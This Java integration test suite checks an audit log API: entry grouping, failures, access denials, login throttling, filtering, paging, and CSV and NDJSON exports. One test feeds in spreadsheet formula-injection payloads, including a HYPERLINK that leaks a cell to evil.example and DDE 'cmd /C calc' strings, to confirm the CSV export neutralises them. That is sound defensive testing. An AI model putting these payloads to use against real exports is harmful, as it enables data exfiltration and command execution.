package com.gpudash.infra.audit;

import java.io.StringReader;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicReference;
import java.util.function.Predicate;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.gpudash.api.audit.AuditMetadata;
import com.gpudash.infra.TestAdmin;
import com.gpudash.testsupport.Eventually;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.axonframework.eventhandling.EventMessage;
import org.axonframework.eventhandling.GenericDomainEventMessage;
import org.axonframework.eventsourcing.eventstore.EventStore;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpStatus;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.web.reactive.server.WebTestClient;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The audit log end to end: requests through real HTTP, the events they store, the audit projection, and
 * {@code GET /api/admin/logs} as JSON, CSV (read back with Apache Commons CSV) and NDJSON. Run on H2 and on MariaDB.
 */
abstract class AuditLogContract {

    /** A payload of this test's own, so that no projection but the audit log does anything with it. */
    record Probed(String what) {
    }

    private static final String PASSWORD = "correct horse battery";
    private static final List<String> FIELDS = List.of("id", "timestamp", "actor", "actorRole", "action", "targetType",
            "targetId", "outcome", "detail", "sourceIp", "correlationId");

    @Autowired
    private WebTestClient client;
    @Autowired
    private JdbcTemplate jdbc;
    @Autowired
    private EventStore eventStore;
    private final ObjectMapper json = new ObjectMapper();
    private String admin;

    @BeforeEach
    void signIn() {
        admin = token(TestAdmin.USERNAME, TestAdmin.PASSWORD);
    }

    @Test
    void theEventsOfOneCommandMakeOneSuccessEntry() {
        String username = unique("made");
        String correlation = correlation();

        String userId = (String) createUser(username, correlation).get("id");

        Map<String, Object> entry = single(awaitEntries("correlationId=" + correlation, 1));
        assertThat(entry).containsEntry("action", "CreateUser").containsEntry("outcome", "SUCCESS")
                .containsEntry("actor", TestAdmin.USERNAME).containsEntry("actorRole", "ADMIN")
                .containsEntry("targetType", "User").containsEntry("targetId", userId)
                .containsEntry("sourceIp", "127.0.0.1").containsEntry("correlationId", correlation);
        assertThat((String) entry.get("detail")).contains("UserCreated");
        assertThat(Instant.parse((String) entry.get("timestamp"))).isBefore(Instant.now().plusSeconds(1));
    }

    /** The events one command stored are one entry, named after the command, listing the events in order. */
    @Test
    void theEventsOfACommandAreGroupedUnderIt() {
        String aggregate = UUID.randomUUID().toString();
        String correlation = correlation();
        Map<String, String> metadata = new java.util.HashMap<>(new AuditMetadata(null, "audit-probe", "ADMIN",
                "192.0.2.7", correlation).asMap());
        metadata.put(AuditMetadata.COMMAND_ID, UUID.randomUUID().toString());
        metadata.put(AuditMetadata.COMMAND_NAME, "ProbeThrice");
        List<EventMessage<?>> events = new ArrayList<>();
        for (int i = 0; i < 3; i++) {
            events.add(new GenericDomainEventMessage<>("Probe", aggregate, i, new Probed("step " + i), metadata));
        }

        eventStore.publish(events);

        // The processor may take the three in more than one batch: the entry grows until it lists them all.
        Map<String, Object> entry = single(awaitEntries("correlationId=" + correlation,
                found -> found.size() == 1 && "Probed, Probed, Probed".equals(found.get(0).get("detail"))));
        assertThat(entry).containsEntry("id", metadata.get(AuditMetadata.COMMAND_ID))
                .containsEntry("action", "ProbeThrice").containsEntry("outcome", "SUCCESS")
                .containsEntry("actor", "audit-probe").containsEntry("actorRole", "ADMIN")
                .containsEntry("targetType", "Probe").containsEntry("targetId", aggregate)
                .containsEntry("sourceIp", "192.0.2.7")
                .containsEntry("detail", "Probed, Probed, Probed");
    }

    @Test
    void aRefusedCommandIsAFailureWithItsReasonAndNeverItsPayload() {
        String unknownUser = UUID.randomUUID().toString();
        String correlation = correlation();
        String secret = "never-in-the-log-" + UUID.randomUUID();

        client.post().uri("/api/admin/users/" + unknownUser + "/reset-password").header(HttpHeaders.AUTHORIZATION, bearer(admin))
                .header("X-Correlation-Id", correlation).contentType(MediaType.APPLICATION_JSON)
                .bodyValue(Map.of("newPassword", secret)).exchange().expectStatus().isNotFound();

        Map<String, Object> entry = single(awaitEntries("correlationId=" + correlation, 1));
        assertThat(entry).containsEntry("action", "ResetPassword").containsEntry("outcome", "FAILURE")
                .containsEntry("actor", TestAdmin.USERNAME).containsEntry("targetType", "User")
                .containsEntry("targetId", unknownUser);
        assertThat((String) entry.get("detail")).isNotBlank();
        assertNothingStoredContains(secret);
    }

    @Test
    void aCallRefusedByRbacIsDenied() {
        String regular = unique("nosy");
        createUser(regular, correlation());
        String token = token(regular, PASSWORD);
        String correlation = correlation();

        client.get().uri("/api/admin/logs").header(HttpHeaders.AUTHORIZATION, bearer(token))
                .header("X-Correlation-Id", correlation).exchange().expectStatus().isForbidden();

        Map<String, Object> entry = single(awaitEntries("correlationId=" + correlation, 1));
        assertThat(entry).containsEntry("action", "AccessDenied").containsEntry("outcome", "DENIED")
                .containsEntry("actor", regular).containsEntry("actorRole", "REGULAR")
                .containsEntry("targetType", "Route").containsEntry("targetId", "/api/admin/logs");
        assertThat((String) entry.get("detail")).contains("403", "GET /api/admin/logs");
    }

    @Test
    void anUnknownUserAndAWrongPasswordAreRecordedAlike() {
        String existing = unique("known");
        createUser(existing, correlation());
        String unknown = unique("ghost");
        String wrongPassword = "wrong-" + UUID.randomUUID();

        String unknownCorrelation = correlation();
        login(unknown, wrongPassword, unknownCorrelation).expectStatus().isUnauthorized();
        String wrongCorrelation = correlation();
        login(existing, wrongPassword, wrongCorrelation).expectStatus().isUnauthorized();

        Map<String, Object> unknownEntry = single(awaitEntries("correlationId=" + unknownCorrelation, 1));
        Map<String, Object> wrongEntry = single(awaitEntries("correlationId=" + wrongCorrelation, 1));
        assertThat(unknownEntry).containsEntry("actor", unknown);
        assertThat(wrongEntry).containsEntry("actor", existing);
        for (String field : List.of("action", "actorRole", "targetType", "targetId", "outcome", "detail", "sourceIp")) {
            assertThat(wrongEntry.get(field)).as(field).isEqualTo(unknownEntry.get(field));
        }
        assertThat(wrongEntry).containsEntry("action", "Login").containsEntry("outcome", "FAILURE");
        // Recorded once, as a failed login, not a second time as a refused call.
        assertNothingStoredContains(wrongPassword);
    }

    @Test
    void loginsThrottlingAndLogoutAreRecorded() {
        String username = unique("session");
        String userId = (String) createUser(username, correlation()).get("id");

        String loginCorrelation = correlation();
        String token = (String) login(username, PASSWORD, loginCorrelation).expectStatus().isOk()
                .expectBody(Map.class).returnResult().getResponseBody().get("token");
        String logoutCorrelation = correlation();
        client.post().uri("/api/logout").header(HttpHeaders.AUTHORIZATION, bearer(token))
                .header("X-Correlation-Id", logoutCorrelation).exchange().expectStatus().isNoContent();
        for (int attempt = 0; attempt < 5; attempt++) {
            login(username, "wrong password " + attempt, correlation()).expectStatus().isUnauthorized();
        }
        String throttledCorrelation = correlation();
        login(username, PASSWORD, throttledCorrelation).expectStatus().isEqualTo(HttpStatus.TOO_MANY_REQUESTS);

        assertThat(single(awaitEntries("correlationId=" + loginCorrelation, 1)))
                .containsEntry("action", "Login").containsEntry("outcome", "SUCCESS").containsEntry("actor", username)
                .containsEntry("actorRole", "REGULAR").containsEntry("targetType", "User").containsEntry("targetId", userId);
        assertThat(single(awaitEntries("correlationId=" + logoutCorrelation, 1)))
                .containsEntry("action", "Logout").containsEntry("outcome", "SUCCESS").containsEntry("actor", username)
                .containsEntry("targetId", userId);
        Map<String, Object> throttled = single(awaitEntries("correlationId=" + throttledCorrelation, 1));
        assertThat(throttled).containsEntry("action", "LoginThrottled").containsEntry("outcome", "FAILURE")
                .containsEntry("actor", username);
        assertThat(entries("actor=" + username + "&action=Login&outcome=FAILURE")).hasSize(5);
        assertNothingStoredContains(PASSWORD);
    }

    /**
     * The approval starts a provisioning: the saga's commands and the workers' answers are the system's, with the
     * admin's correlation id, so the admin's action and everything it set off read together.
     */
    @Test
    void sagaStepsAndWorkerAnswersAreTheSystemsUnderTheAdminsCorrelationId() {
        String username = unique("flow");
        String userId = register(username);
        String correlation = correlation();

        client.post().uri("/api/admin/users/" + userId + "/approve").header(HttpHeaders.AUTHORIZATION, bearer(admin))
                .header("X-Correlation-Id", correlation).exchange().expectStatus().isAccepted();

        List<Map<String, Object>> entries = awaitEntries("correlationId=" + correlation,
                found -> found.stream().anyMatch(e -> ((String) e.get("action")).startsWith("Record")));
        // The admin's request sent one command; everything else, the container request included, followed from its
        // event.
        List<String> byAdmin = List.of("ApproveUser");
        assertThat(entries).filteredOn(e -> byAdmin.contains(e.get("action")))
                .extracting(e -> e.get("action")).containsExactlyInAnyOrderElementsOf(byAdmin);
        assertThat(entries).filteredOn(e -> byAdmin.contains(e.get("action"))).allSatisfy(e -> assertThat(e)
                .containsEntry("actor", TestAdmin.USERNAME).containsEntry("outcome", "SUCCESS"));
        List<Map<String, Object>> system = entries.stream().filter(e -> !byAdmin.contains(e.get("action"))).toList();
        assertThat(system).isNotEmpty().allSatisfy(e -> assertThat(e).containsEntry("actor", "system")
                .containsEntry("actorRole", "system").containsEntry("sourceIp", null));
        // A command sent while handling an event (the operation), and a worker's answer (sent after commit, on a
        // thread of its own).
        assertThat(system).extracting(e -> e.get("action")).contains("RequestContainer", "StartOperation");
        assertThat(system).anySatisfy(e -> assertThat((String) e.get("action")).startsWith("Record"));
    }

    @Test
    void theFiltersCombineAndTheListPagesNewestFirst() {
        String regular = unique("filter");
        createUser(regular, correlation());
        String token = token(regular, PASSWORD);
        for (String path : List.of("/api/admin/logs", "/api/admin/users", "/api/admin/logs")) {
            client.get().uri(path).header(HttpHeaders.AUTHORIZATION, bearer(token)).exchange().expectStatus().isForbidden();
        }

        List<Map<String, Object>> all = awaitEntries("actor=" + regular, 4); // the login and three refusals
        assertThat(all).extracting(e -> e.get("action"))
                .containsExactly("AccessDenied", "AccessDenied", "AccessDenied", "Login");
        List<Instant> times = all.stream().map(e -> Instant.parse((String) e.get("timestamp"))).toList();
        assertThat(times).isSortedAccordingTo((a, b) -> b.compareTo(a));

        assertThat(entries("actor=" + regular + "&outcome=DENIED")).hasSize(3);
        assertThat(entries("actor=" + regular + "&outcome=denied&targetType=Route&targetId=/api/admin/logs")).hasSize(2);
        assertThat(entries("actor=" + regular + "&action=Login")).hasSize(1);
        assertThat(entries("actor=" + regular + "&action=Login&outcome=DENIED")).isEmpty();
        Instant oldest = times.get(times.size() - 1);
        Instant newest = times.get(0);
        assertThat(entries("actor=" + regular + "&from=" + newest)).hasSizeGreaterThanOrEqualTo(1)
                .allSatisfy(e -> assertThat(Instant.parse((String) e.get("timestamp"))).isAfterOrEqualTo(newest));
        assertThat(entries("actor=" + regular + "&to=" + oldest)).isEmpty();
        assertThat(entries("actor=" + regular + "&from=" + oldest + "&to=" + newest.plusMillis(1))).hasSize(4);

        Map<?, ?> first = page("actor=" + regular + "&page=0&size=3");
        Map<?, ?> second = page("actor=" + regular + "&page=1&size=3");
        assertThat(List.of(first.get("total"), first.get("totalExact"), first.get("page"), first.get("size")))
                .containsExactly(4, true, 0, 3);
        List<Object> paged = new ArrayList<>((List<?>) first.get("items"));
        paged.addAll((List<?>) second.get("items"));
        assertThat(paged).isEqualTo(all);
    }

    @Test
    void badFilterValuesAreProblems() {
        for (String query : List.of("outcome=MAYBE", "from=yesterday", "to=2026-13-01T00:00:00Z",
                "from=2026-01-02T00:00:00Z&to=2026-01-01T00:00:00Z", "size=0", "size=501", "page=-1", "page=first")) {
            client.get().uri("/api/admin/logs?" + query).header(HttpHeaders.AUTHORIZATION, bearer(admin)).exchange()
                    .expectStatus().isBadRequest()
                    .expectHeader().contentType(MediaType.APPLICATION_PROBLEM_JSON);
        }
        client.get().uri("/api/admin/logs?outcome=MAYBE").header(HttpHeaders.AUTHORIZATION, bearer(admin))
                .accept(MediaType.parseMediaType("text/csv")).exchange()
                .expectStatus().isBadRequest();
    }

    /** Every field survives the CSV quoting, even an actor name with a comma, a quote and a line break in it. */
    @Test
    void theCsvExportIsTheSameLogAndReadsBackWithAStandardReader() throws Exception {
        String awkward = unique("odd") + ", \"quoted\"\r\nnext line";
        for (int attempt = 0; attempt < 3; attempt++) {
            login(awkward, "wrong", correlation()).expectStatus().isUnauthorized();
        }
        String regular = unique("csv");
        createUser(regular, correlation());
        token(regular, PASSWORD);
        List<Map<String, Object>> oddEntries = awaitEntries("actor={actor}", awkward, found -> found.size() >= 3);
        List<Map<String, Object>> regularEntries = awaitEntries("actor=" + regular, 1);

        for (List<Map<String, Object>> expected : List.of(oddEntries, regularEntries)) {
            String actor = (String) expected.get(0).get("actor");
            String csv = client.get().uri("/api/admin/logs?actor={actor}", actor).header(HttpHeaders.AUTHORIZATION, bearer(admin))
                    .accept(MediaType.parseMediaType("text/csv")).exchange()
                    .expectStatus().isOk()
                    .expectHeader().contentTypeCompatibleWith(MediaType.parseMediaType("text/csv"))
                    .expectBody(String.class).returnResult().getResponseBody();
            try (CSVParser parser = CSVParser.parse(new StringReader(csv),
                    CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())) {
                assertThat(parser.getHeaderNames()).isEqualTo(FIELDS);
                List<CSVRecord> records = parser.getRecords();
                assertThat(records).hasSize(expected.size());
                for (int i = 0; i < records.size(); i++) {
                    for (String field : FIELDS) {
                        Object value = expected.get(i).get(field);
                        assertThat(records.get(i).get(field)).as(field).isEqualTo(value == null ? "" : value.toString());
                    }
                }
            }
        }
        assertThat(oddEntries).allSatisfy(e -> assertThat(e).containsEntry("actor", awkward));
    }

    /**
     * Anyone can put text in the log (the username of a refused login): in the CSV export a value that a
     * spreadsheet would run as a formula begins with a quote, while JSON and NDJSON keep the value as it was typed.
     */
    @Test
    void formulasTypedAsAUsernameAreInertInTheCsvExportOnly() throws Exception {
        List<String> formulas = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
                "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0");
        for (String formula : formulas) {
            String correlation = correlation();
            login(formula, "wrong", correlation).expectStatus().isUnauthorized();

            assertThat(single(awaitEntries("correlationId=" + correlation, 1))).containsEntry("actor", formula);
            String csv = export(correlation, "text/csv");
            try (CSVParser parser = CSVParser.parse(new StringReader(csv),
                    CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())) {
                CSVRecord record = parser.getRecords().get(0);
                assertThat(record.get("actor")).isEqualTo("'" + formula);
                assertThat(record.get("correlationId")).isEqualTo(correlation);
            }
            assertThat(json.readValue(export(correlation, "application/x-ndjson").strip(), Map.class))
                    .containsEntry("actor", formula);
        }
    }

    private String export(String correlation, String mediaType) {
        return client.get().uri("/api/admin/logs?correlationId=" + correlation)
                .header(HttpHeaders.AUTHORIZATION, bearer(admin)).accept(MediaType.parseMediaType(mediaType)).exchange()
                .expectStatus().isOk().expectBody(String.class).returnResult().getResponseBody();
    }

    /**
     * An export is read a thousand rows at a time: one larger than that crosses pages without losing or repeating
     * a row, even where many entries share a millisecond.
     */
    @Test
    void anExportLargerThanOnePageHasEveryEntryOnceInOrder() throws Exception {
        String actor = unique("many");
        int count = 2500;
        List<EventMessage<?>> events = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            events.add(org.axonframework.eventhandling.GenericEventMessage.asEventMessage(
                    new com.gpudash.api.audit.LoginFailed(actor, "attempt " + i))
                    .andMetaData(new AuditMetadata(null, actor, null, "192.0.2.9", correlation()).asMap()));
        }
        eventStore.publish(events);
        awaitProjected(actor, count);

        WebTestClient unlimited = client.mutate().codecs(codecs -> codecs.defaultCodecs().maxInMemorySize(-1)).build();
        String csv = unlimited.get().uri("/api/admin/logs?actor=" + actor).header(HttpHeaders.AUTHORIZATION, bearer(admin))
                .accept(MediaType.parseMediaType("text/csv")).exchange()
                .expectStatus().isOk().expectBody(String.class).returnResult().getResponseBody();
        List<String> details = new ArrayList<>();
        try (CSVParser parser = CSVParser.parse(new StringReader(csv),
                CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())) {
            for (CSVRecord record : parser) {
                details.add(record.get("detail"));
            }
        }
        List<String> newestFirst = new ArrayList<>();
        for (int i = count - 1; i >= 0; i--) {
            newestFirst.add("attempt " + i);
        }
        assertThat(details).isEqualTo(newestFirst);
    }

    /**
     * Counting every entry of a large filter is what made a page cost seconds at a million entries: past a bound
     * the total is a lower bound that still promises the next page, and it is exact again near the filter's end.
     */
    @Test
    @SuppressWarnings("unchecked")
    void aLargeFiltersTotalIsALowerBoundUntilThePagesReachItsEnd() {
        String actor = unique("bound");
        int count = 1200;
        List<EventMessage<?>> events = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            events.add(org.axonframework.eventhandling.GenericEventMessage.asEventMessage(
                    new com.gpudash.api.audit.LoginFailed(actor, "attempt " + i))
                    .andMetaData(new AuditMetadata(null, actor, null, "192.0.2.10", correlation()).asMap()));
        }
        eventStore.publish(events);
        awaitProjected(actor, count);

        for (String filter : List.of("actor=" + actor, "actor=" + actor + "&outcome=FAILURE&action=Login")) {
            Map<?, ?> first = page(filter + "&page=0&size=50");
            assertThat(first.get("totalExact")).as(filter).isEqualTo(false);
            assertThat(((Number) first.get("total")).intValue()).as(filter).isGreaterThan(50).isLessThanOrEqualTo(count);
            assertThat((List<?>) first.get("items")).hasSize(50);

            Map<?, ?> nearTheEnd = page(filter + "&page=20&size=50");
            assertThat(List.of(nearTheEnd.get("total"), nearTheEnd.get("totalExact"))).as(filter)
                    .containsExactly(count, true);
            Map<?, ?> last = page(filter + "&page=23&size=50");
            assertThat(List.of(last.get("total"), last.get("totalExact"))).as(filter).containsExactly(count, true);
            assertThat((List<Map<String, Object>>) last.get("items")).extracting(e -> e.get("detail"))
                    .first().isEqualTo("attempt 49");
            assertThat((List<?>) page(filter + "&page=24&size=50").get("items")).isEmpty();
        }
    }

    @Test
    void theNdjsonExportIsOneEntryALine() throws Exception {
        String regular = unique("ndjson");
        createUser(regular, correlation());
        String token = token(regular, PASSWORD);
        client.get().uri("/api/admin/stats").header(HttpHeaders.AUTHORIZATION, bearer(token)).exchange()
                .expectStatus().isForbidden();
        List<Map<String, Object>> expected = awaitEntries("actor=" + regular, 2);

        String body = client.get().uri("/api/admin/logs?actor=" + regular).header(HttpHeaders.AUTHORIZATION, bearer(admin))
                .accept(MediaType.parseMediaType("application/x-ndjson")).exchange()
                .expectStatus().isOk()
                .expectHeader().contentTypeCompatibleWith(MediaType.parseMediaType("application/x-ndjson"))
                .expectBody(String.class).returnResult().getResponseBody();

        List<Object> lines = new ArrayList<>();
        for (String line : body.split("\n")) {
            lines.add(json.readValue(line, Map.class));
        }
        assertThat(lines).isEqualTo(expected);
    }

    private void assertNothingStoredContains(String secret) {
        assertThat(jdbc.queryForObject("SELECT COUNT(*) FROM audit_log WHERE detail LIKE ? OR actor LIKE ?"
                + " OR target_id LIKE ?", Long.class, "%" + secret + "%", "%" + secret + "%", "%" + secret + "%"))
                .isZero();
        List<byte[]> recent = jdbc.queryForList("SELECT payload FROM DomainEventEntry ORDER BY globalIndex DESC LIMIT 200",
                byte[].class);
        assertThat(recent).noneSatisfy(payload -> assertThat(new String(payload)).contains(secret));
    }

    /** Until the projection has written the actor's last entry: the page that holds it is no longer empty. */
    private void awaitProjected(String actor, int count) {
        Eventually.await("entry " + count + " of " + actor, Duration.ofSeconds(60), () -> Optional.of(
                page("actor=" + actor + "&page=" + (count - 1) + "&size=1")).filter(p -> !((List<?>) p.get("items")).isEmpty()));
    }

    private Map<String, Object> single(List<Map<String, Object>> entries) {
        assertThat(entries).hasSize(1);
        return entries.get(0);
    }

    private List<Map<String, Object>> awaitEntries(String query, int count) {
        return awaitEntries(query, found -> found.size() >= count);
    }

    private List<Map<String, Object>> awaitEntries(String query, Predicate<List<Map<String, Object>>> done) {
        return awaitEntries(query, null, done);
    }

    /** The log is a read model behind a tracking processor: it catches up within moments, not at once. */
    private List<Map<String, Object>> awaitEntries(String query, String variable,
                                                   Predicate<List<Map<String, Object>>> done) {
        AtomicReference<List<Map<String, Object>>> found = new AtomicReference<>();
        return Eventually.await(() -> "the audit log to show what was expected for " + query + "; it has "
                + found.get(), Duration.ofSeconds(15), () -> {
                    found.set(entries(query, variable));
                    return Optional.of(found.get()).filter(done);
                });
    }

    private List<Map<String, Object>> entries(String query) {
        return entries(query, null);
    }

    /** @param variable the value of the one {@code {actor}}-style variable in {@code query}, encoded strictly */
    @SuppressWarnings("unchecked")
    private List<Map<String, Object>> entries(String query, String variable) {
        return (List<Map<String, Object>>) page(query + "&size=500", variable).get("items");
    }

    private Map<?, ?> page(String query) {
        return page(query, null);
    }

    private Map<?, ?> page(String query, String variable) {
        Object[] variables = variable == null ? new Object[0] : new Object[] {variable};
        return client.get().uri("/api/admin/logs?" + query, variables).header(HttpHeaders.AUTHORIZATION, bearer(admin))
                .exchange().expectStatus().isOk()
                .expectHeader().contentTypeCompatibleWith(MediaType.APPLICATION_JSON)
                .expectBody(Map.class).returnResult().getResponseBody();
    }

    private Map<?, ?> createUser(String username, String correlation) {
        return client.post().uri("/api/admin/users").header(HttpHeaders.AUTHORIZATION, bearer(admin))
                .header("X-Correlation-Id", correlation).contentType(MediaType.APPLICATION_JSON)
                .bodyValue(Map.of("username", username, "password", PASSWORD, "email", username + "@example.org",
                        "role", "REGULAR"))
                .exchange().expectStatus().isCreated()
                .expectBody(Map.class).returnResult().getResponseBody();
    }

    private String register(String username) {
        Map<?, ?> answer = client.post().uri("/api/register").contentType(MediaType.APPLICATION_JSON)
                .bodyValue(Map.of("username", username, "password", PASSWORD, "email", username + "@example.org"))
                .exchange().expectStatus().isCreated()
                .expectBody(Map.class).returnResult().getResponseBody();
        return (String) ((Map<?, ?>) answer.get("user")).get("id");
    }

    private WebTestClient.ResponseSpec login(String username, String password, String correlation) {
        return client.post().uri("/api/login").header("X-Correlation-Id", correlation)
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue(Map.of("username", username, "password", password)).exchange();
    }

    private String token(String username, String password) {
        return (String) login(username, password, correlation()).expectStatus().isOk()
                .expectBody(Map.class).returnResult().getResponseBody().get("token");
    }

    private static String bearer(String token) {
        return "Bearer " + token;
    }

    /** Names are unique per run: the test databases outlive a run. */
    private static String unique(String prefix) {
        return "audit-" + prefix + "-" + UUID.randomUUID().toString().substring(0, 8);
    }

    private static String correlation() {
        return "audit-" + UUID.randomUUID();
    }
}
